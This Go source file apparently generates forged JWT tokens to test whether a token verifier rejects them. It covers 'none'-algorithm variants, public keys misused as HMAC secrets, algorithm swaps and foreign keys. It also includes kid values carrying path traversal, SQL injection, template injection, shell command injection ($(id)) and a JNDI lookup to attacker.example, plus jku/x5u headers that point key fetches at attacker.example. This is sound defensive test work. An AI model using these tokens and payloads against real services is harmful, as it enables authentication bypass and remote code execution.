package tokentest

import (
	"strings"
)

var (
	hmacAlgs  = []string{"HS256", "HS384", "HS512"}
	ownAlgs   = []string{"RS256", "PS256", "ES256", "EdDSA"}
	otherAlgs = []string{
		"HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512",
		"EdDSA", "Ed25519", "ES256K", "RS1", "rs256", "hs512", "dir", "A256KW", "RSA-OAEP",
	}
)

// none: CVE-2015-9235 and every case in which it came back.
func (m *maker) none() {
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "NoNe", "noNE", "none ", " none", "none\x00", "", "null", "nil", "ｎone"} {
		for _, kid := range []*string{&m.kid, nil} {
			with := " with kid"
			if kid == nil {
				with = " without kid"
			}
			unsigned := encode([]byte(head3(alg, kid))) + "." + m.body + "."
			m.addf(unsigned, "alg %q%s, no signature", alg, with)
			m.addf(unsigned+m.sig, "alg %q%s, the old signature", alg, with)
		}
	}
	m.add("alg none, two parts", encode([]byte(head3("none", nil)))+"."+m.body)
	for _, alg := range []string{"null", "[]", `["none"]`, `["RS256"]`, "{}", "0", "1", "true", "false"} {
		h := `{"alg":` + alg + `,"typ":"JWT","kid":` + quote(m.kid) + `}`
		m.addf(encode([]byte(h))+"."+m.body+"."+m.sig, "alg is %s", alg)
	}
}

// publicAsSecret: CVE-2016-10555, CVE-2026-11800: what is public as an HMAC secret.
func (m *maker) publicAsSecret() {
	for _, key := range m.public {
		for _, alg := range hmacAlgs {
			for _, f := range key.forms {
				m.addf(hmacToken(alg, head3(alg, &key.kid), m.payload, f.secret), "%s with %s of the %s key", alg, f.name, key.alg)
			}
		}
		// The header keeps the key's own algorithm; only the signature is an HMAC.
		for _, f := range key.forms {
			m.addf(hmacToken("HS256", head3(key.alg, &key.kid), m.payload, f.secret), "%s in name, HMAC in fact with %s", key.alg, f.name)
		}
	}
	for _, secret := range []string{"", "\x00", "secret", "changeme", "null", "undefined", strings.Repeat("\x00", 32), strings.Repeat("\x00", 64)} {
		for _, alg := range hmacAlgs {
			m.addf(hmacToken(alg, head3(alg, &m.kid), m.payload, []byte(secret)), "%s with the secret %q", alg, secret)
		}
	}
}

// otherAlgorithms keeps payload and signature and changes what is said of them.
func (m *maker) otherAlgorithms() {
	for _, key := range m.public {
		for _, alg := range otherAlgs {
			if key.kid == m.kid && alg == m.alg {
				continue
			}
			m.addf(encode([]byte(head3(alg, &key.kid)))+"."+m.body+"."+m.sig, "the old signature called %s by the %s key", alg, key.alg)
		}
	}
}

// foreignKeys signs with keys the realm does not know.
func (m *maker) foreignKeys() {
	unknown := "foreign"
	for _, alg := range ownAlgs {
		m.addf(m.own.sign(alg, head3(alg, &unknown), m.payload), "a foreign %s key with its own kid", alg)
		m.addf(m.own.sign(alg, head3(alg, nil), m.payload), "a foreign %s key without kid", alg)
		for _, key := range m.public {
			m.addf(m.own.sign(alg, head3(alg, &key.kid), m.payload), "a foreign %s key under the kid of the %s key", alg, key.alg)
			m.addf(m.own.sign(alg, head3(key.alg, &key.kid), m.payload), "a foreign %s key that calls itself the %s key", alg, key.alg)
		}
	}
}

// keyIDs: a kid is a name to look up and nothing else.
func (m *maker) keyIDs() {
	ids := []string{
		"", " ", "\x00", m.kid + "\x00", m.kid + " ", " " + m.kid, m.kid + "\n", m.kid[:len(m.kid)-1], m.kid + m.kid,
		strings.ToUpper(m.kid) + "x", "0", "-1", "null", "undefined", "true", "constructor", "__proto__", "toString", "hasOwnProperty",
		"/dev/null", "../../../../../../dev/null", "..\\..\\windows\\win.ini", "file:///dev/null", "/proc/self/environ",
		"/etc/passwd\x00.pem", "http://127.0.0.1/jwks", "https://attacker.example/key", "ldap://attacker.example/x",
		"' OR '1'='1", "x' UNION SELECT 'secret", "1; DROP TABLE keys--", "\" or \"\"=\"", "%' OR kid LIKE '%",
		"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://attacker.example/x}", "$(id)", "`id`", "|id", ";id",
		"%s%s%s%n", "%00", "%2e%2e%2f", "\u202e", "\u0000\u0001", "ｋid", "*", "?", ".*", "[", "a.b.c",
		"default", "realm", "HS512", "none", "current", "active", "latest",
		strings.Repeat("k", 600), strings.Repeat("k", 11<<10), strings.Repeat("k", 1<<20), strings.Repeat("../", 300),
	}
	for _, id := range ids {
		name := id
		if len(name) > 40 {
			name = name[:40] + "…"
		}
		m.addf(hmacToken("HS512", head3("HS512", &id), m.payload, nil), "kid %q with an empty HMAC secret (%d bytes)", name, len(id))
		m.addf(encode([]byte(head3(m.alg, &id)))+"."+m.body+"."+m.sig, "kid %q with the old signature (%d bytes)", name, len(id))
	}
	for _, kid := range []string{"null", "0", "1e3", "true", "[]", "{}", "[" + quote(m.kid) + "]", `{"$ne":""}`} {
		h := `{"alg":` + quote(m.alg) + `,"typ":"JWT","kid":` + kid + `}`
		m.addf(encode([]byte(h))+"."+m.body+"."+m.sig, "kid is %s", kid)
	}
}

// headers that offer a key or ask for special treatment, signed by the attacker.
func (m *maker) headers() {
	for _, alg := range ownAlgs {
		jwk := m.own.public(alg)
		for _, extra := range headerExtras(jwk) {
			for _, kid := range []string{`,"kid":` + quote(m.kid), ""} {
				h := `{"alg":` + quote(alg) + `,"typ":"JWT"` + kid + `,` + extra + `}`
				with := " and a known kid"
				if kid == "" {
					with = " and no kid"
				}
				m.addf(m.own.sign(alg, h, m.payload), "%s with %s%s", alg, shorten(extra), with)
			}
		}
	}
}

func headerExtras(jwk string) []string {
	return []string{
		`"jwk":` + jwk,
		`"jwk":{"keys":[` + jwk + `]}`,
		`"jku":"https://attacker.example/jwks.json"`,
		`"jku":"http://127.0.0.1:1/jwks.json"`,
		`"jku":"data:application/json,{\"keys\":[]}"`,
		`"x5u":"https://attacker.example/cert.pem"`,
		`"x5u":"file:///etc/ssl/cert.pem"`,
		`"x5c":["MIIB"]`,
		`"x5t":"AAAA"`,
		`"x5t#S256":"AAAA"`,
		`"iss":"https://attacker.example"`,
	}
}

func shorten(s string) string {
	if len(s) > 48 {
		return s[:48] + "…"
	}
	return s
}
